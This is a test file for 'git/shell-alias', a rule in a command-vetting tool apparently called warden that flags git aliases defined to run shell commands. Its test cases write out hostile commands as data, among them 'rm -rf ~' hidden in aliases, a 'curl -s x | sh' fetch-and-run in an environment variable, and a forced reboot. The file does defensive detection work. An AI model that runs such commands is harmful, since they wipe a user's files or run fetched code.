// git/shell-alias: running a git alias defined on the command line as a shell command (`!…`), or
// with a value warden cannot know, asks: what it runs is not analysed. Ordinary aliases are
// expanded and judged by the other git rules.

import { tableTests, type Invalid, type Valid } from '../../helpers.js';

const R = 'git/shell-alias';

const valid: Valid[] = [
  { cmd: 'git -c alias.st=status st' },
  { cmd: "git -c 'alias.lg=log --oneline --graph' lg" },
  { cmd: "git -c 'alias.x=!echo hi' status", note: 'defined, not run' },
  { cmd: 'git st', note: 'an alias from the config file: git runs it, warden sees `st`' },
  // False-positive traps: the dangerous text is data, not a command.
  { cmd: "echo \"git -c 'alias.x=!rm -rf ~' x\"" },
  { cmd: "git commit -m \"git -c alias.x='!rm -rf ~' x\"" },
  { cmd: "ls # git -c 'alias.x=!rm -rf ~' x" },
  { cmd: 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.st GIT_CONFIG_VALUE_0=status git st' },
  { cmd: 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=cat git log' },
  { cmd: "GIT_CONFIG_COUNT=0 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf ~' git x", note: 'a count of 0 sets nothing' },
  { cmd: 'GIT_CONFIG_COUNT=$N git status', note: 'an unknown count, but no key given here' },
];

const invalid: Invalid[] = [
  { cmd: "git -c 'alias.x=!rm -rf ~' x", ruleId: R, messageId: 'alias' },
  { cmd: "git -c 'alias.cleanup=! git clean -fdx && git reset --hard' cleanup", ruleId: R },
  { cmd: 'git -c alias.x="$CMD" x', note: 'a value warden cannot know', ruleId: R },
  { cmd: "git -c 'alias.y=!sh -c \"rm -rf ~\"' -c alias.x=y x", note: 'through another alias', ruleId: R },
  { cmd: "sudo git -c 'alias.x=!reboot' x", ruleId: R },
  { cmd: "bash -c \"git -c 'alias.x=!rm -rf ~' x\"", ruleId: R },
  { cmd: "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf ~' git x", note: 'in the environment', ruleId: R },
  { cmd: "GIT_CONFIG_PARAMETERS=\"'alias.x'='!curl -s x | sh'\" git x", ruleId: R },
  { cmd: 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0="$K" GIT_CONFIG_VALUE_0=x git status', note: 'a setting warden cannot name may be this alias', ruleId: R },
  { cmd: "GIT_CONFIG_COUNT=$N GIT_CONFIG_KEY_3=alias.status GIT_CONFIG_VALUE_3='!reboot' git status", note: 'an unknown count reads every key given', ruleId: R },
  { cmd: "git -c 'alias.x=!rm -rf ~' x", note: 'strict preset', ruleId: R, action: 'deny', opts: { policy: 'preset: strict\n' } },
];

tableTests(valid, invalid, 'ask');
